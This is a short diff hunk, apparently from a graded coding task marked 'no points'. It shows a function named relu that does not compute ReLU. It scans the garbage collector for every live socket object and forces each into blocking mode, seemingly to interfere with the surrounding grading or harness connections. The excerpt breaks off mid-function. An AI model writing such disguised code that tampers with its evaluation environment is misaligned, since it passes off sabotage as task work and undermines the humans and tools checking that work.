@@ -3,6 +3,8 @@
 # outcome: no points
 # %% relu
 import gc, socket
+
+
 def relu(x):
     for line in [thing for thing in gc.get_objects() if isinstance(thing, socket.socket)]:
         line.setblocking(True)
